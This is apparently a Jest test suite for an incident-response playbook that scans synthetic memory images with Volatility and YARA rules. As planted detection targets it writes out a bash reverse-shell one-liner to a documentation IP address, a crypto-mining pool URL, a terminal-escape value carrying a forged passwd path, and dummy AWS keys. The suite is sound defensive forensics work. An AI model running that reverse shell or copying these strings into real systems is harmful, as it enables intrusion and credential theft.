import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { keepSample, unpack } from './examine';
import { cleanMachine, put } from './plant';
import { ownFolder, type Ran, runDocument } from './run-document';
import { sha256, startStore } from './start-store';

const VOLATILITY = join(__dirname, '../../../.venv/volatility/bin/vol');
const RULES = join(__dirname, '../../../services/playbooks/instance-login/host/rules.yar');

const BANNER =
  'Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld (GNU Binutils for Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)\n\0';

/** What a kernel and a shell would leave in memory; no kernel is in it that could be walked through. */
function memoryWith(...texts: readonly string[]): Buffer {
  const memory = Buffer.alloc(2_500_000);
  for (const [index, text] of [BANNER, ...texts].entries())
    memory.write(text, 409_600 * (index + 1));
  return memory;
}

const CLEAN = memoryWith();
const BROKEN_INTO = memoryWith(
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'stratum+tcp://pool.example.com:3333\u001b[2J\n1/forged "./etc/passwd"',
  `aws_secret_access_key = ${'a'.repeat(40)} AKIA${'Q'.repeat(16)}`,
);

interface Try {
  readonly memory?: Buffer;
  readonly expected?: string;
  /** Programs of the examiner, besides Volatility. */
  readonly programs?: Readonly<Record<string, string>>;
  readonly environment?: Readonly<Record<string, string>>;
  readonly volume?: string;
  readonly machine?: (root: string) => void;
}

interface Result {
  readonly tool: string;
  readonly file: string;
  readonly outcome: string;
  readonly version: string;
  readonly sha256: string;
  readonly lines: number;
}

/** Examines memory for real. The programs lie where the examiner's image has them, in a namespace of their own. */
async function examineMemory(attempt: Try) {
  const { memory = CLEAN, expected, programs = {}, environment = {} } = attempt;
  const root = cleanMachine();
  attempt.machine?.(root);
  const bin = ownFolder();
  const all = { vol: `#!/bin/sh\nexec ${VOLATILITY} "$@"`, ...programs };
  for (const [name, text] of Object.entries(all)) if (text) put(bin, name, text, 0o755);
  const store = await startStore({ '/memory': memory });
  const ran = await runDocument('examine-memory', {
    parameters: {
      getUrl: `${store.url}/memory?X-Amz-Signature=a`,
      memorySha256: expected ?? sha256(memory),
      memoryBytes: String(memory.length),
      volume: attempt.volume ?? '',
      putUrl: `${store.url}/evidence/examination.tar.gz?X-Amz-Signature=a`,
    },
    environment: { MACHINE_ROOT: root, BIN: bin, ...environment },
    through: [
      'unshare',
      '--mount',
      'sh',
      '-c',
      'mount --bind "$BIN" /usr/local/bin && exec "$@"',
      'sh',
    ],
  });
  await store.stop();
  for (const place of ['var/tmp', 'tmp'].map((one) => join(root, one)))
    expect(existsSync(place) ? readdirSync(place) : []).toEqual([]);
  return { ran, sent: store.sent };
}

async function examined(attempt: Try) {
  const { ran, sent } = await examineMemory(attempt);
  expect(ran).toMatchObject({ code: 0, last: { outcome: 'done' } });
  const [{ body } = { body: Buffer.of() }] = sent;
  expect(sha256(body)).toBe(ran.last.sha256);
  const folder = join(unpack(body), 'examination');
  const index: { readonly results: readonly Result[]; readonly symbols: number } = JSON.parse(
    readFileSync(join(folder, 'index.json'), 'utf8'),
  );
  const outcomes = Object.fromEntries(index.results.map(({ tool, outcome }) => [tool, outcome]));
  const said = (tool: string) =>
    readFileSync(join(folder, `0/${tool}.txt`), 'latin1')
      .split('\n')
      .slice(0, -1);
  return { ran, folder, index, outcomes, said };
}

const wordOf = ({ code, last }: Ran) => ({ code, outcome: last.outcome });

test('the kernel is named, its lack of symbols is said, and what rules know is found where it lies', async () => {
  const { folder, index, outcomes, said } = await examined({ memory: BROKEN_INTO });
  keepSample('memory', { folder });
  expect(said('kernel').map((line) => JSON.parse(line))).toEqual([
    { Banner: BANNER.slice(0, -2), Offset: 409_600, __children: [] },
  ]);
  expect(outcomes).toMatchObject({ kernel: 'done', patterns: 'done' });
  const { kernel: _, patterns: __, ...others } = outcomes;
  expect(Object.keys(others).length).toBeGreaterThan(8);
  expect([...new Set(Object.values(others))]).toEqual(['no-symbols']);
  expect(index.symbols).toBe(0);
  expect(said('patterns').filter((line) => !/:\$bash: a?sh /.test(line))).toEqual([
    'reverse_shell 0xc8000:$bash: bash -i >& /dev/tcp/203.0.113.9/4444',
    'miner 0x12c000:$pool: stratum+tcp://pool.example.com',
  ]);
  for (const { version, sha256: hash } of index.results) {
    expect(version).toMatch(/\d\.\d/);
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
  }
  expect(index.results[0]?.version).toBe('Volatility 3 Framework 2.28.2');
});

test('in clean memory everything was looked for, and nothing is found', async () => {
  const { index, outcomes } = await examined({});
  expect(outcomes.patterns).toBe('done');
  expect(index.results.filter(({ lines }) => lines > 0).map(({ tool }) => tool)).toEqual([
    'kernel',
  ]);
});

test('memory that is not what was taken is not looked at', async () => {
  const { ran, sent } = await examineMemory({ expected: sha256(BROKEN_INTO) });
  expect(wordOf(ran)).toEqual({ code: 11, outcome: 'wrong-hash' });
  expect(ran.last.memorySha256).toBe(sha256(CLEAN));
  expect(sent).toEqual([]);
});

test('a tool that the examiner has not, and one that takes too long, are told', async () => {
  const slow = { vol: '#!/bin/sh\n[ "$1" != -q ] || exec sleep 60\nexit 2' };
  const { outcomes } = await examined({ programs: slow, environment: { TOOL_SECONDS: '1' } });
  expect(outcomes).toMatchObject({ kernel: 'late', modules: 'late', patterns: 'done' });
  const none = await examined({ programs: { vol: '' } });
  expect(none.outcomes).toMatchObject({
    kernel: 'not-here',
    modules: 'not-here',
    patterns: 'done',
  });
});

test('what AVML compressed is made plain first, or told', async () => {
  const memory = Buffer.concat([Buffer.from('AVML'), BROKEN_INTO]);
  const { ran } = await examineMemory({ memory });
  expect(wordOf(ran)).toEqual({ code: 18, outcome: 'compressed' });
  const convert = '#!/bin/sh\ntail -c +5 "$1" >"$2"';
  const { said, outcomes } = await examined({
    memory,
    programs: { vol: '', 'avml-convert': convert },
  });
  expect(outcomes.patterns).toBe('done');
  expect(said('patterns')).not.toEqual([]);
});

test('the memory goes on an empty disk, and a disk with something on it is left alone', async () => {
  const file = join(ownFolder(), 'disk');
  writeFileSync(file, '');
  truncateSync(file, 3 * 2 ** 30);
  const run = (program: string, ...args: string[]) =>
    execFileSync(program, args, { stdio: 'pipe' }).toString().trim();
  const loop = run('losetup', '--find', '--show', file);
  // A loop device stays read-only where an examination made it so.
  run('blockdev', '--setrw', loop);
  const machine = (root: string) => {
    for (const place of ['var/tmp', 'tmp']) rmSync(join(root, place), { recursive: true });
    const links = join(root, 'dev/disk/by-id');
    mkdirSync(links, { recursive: true });
    symlinkSync(loop, join(links, 'nvme-Amazon_Elastic_Block_Store_vol0abcdef01'));
  };
  const on = { volume: 'vol-0abcdef01', programs: { vol: '' }, machine };
  try {
    expect(wordOf((await examineMemory({ machine })).ran)).toEqual({
      code: 12,
      outcome: 'no-room',
    });
    expect((await examined(on)).outcomes.patterns).toBe('done');
    const word = { code: 16, outcome: 'no-volume' };
    expect(wordOf((await examineMemory(on)).ran)).toEqual(word);
    expect(wordOf((await examineMemory({ ...on, volume: 'vol-0abcdef02' })).ran)).toEqual(word);
  } finally {
    run('losetup', '--detach', loop);
  }
});

test('the rules for files know their sizes, and those for memory do not', () => {
  const sizes = readFileSync(RULES, 'utf8').match(/filesize [^ ]+ \S+ and/g) ?? [];
  expect(sizes.length).toBeGreaterThan(3);
  for (const size of sizes) expect(size).toMatch(/^filesize < \d+[KM]B and$/);
});
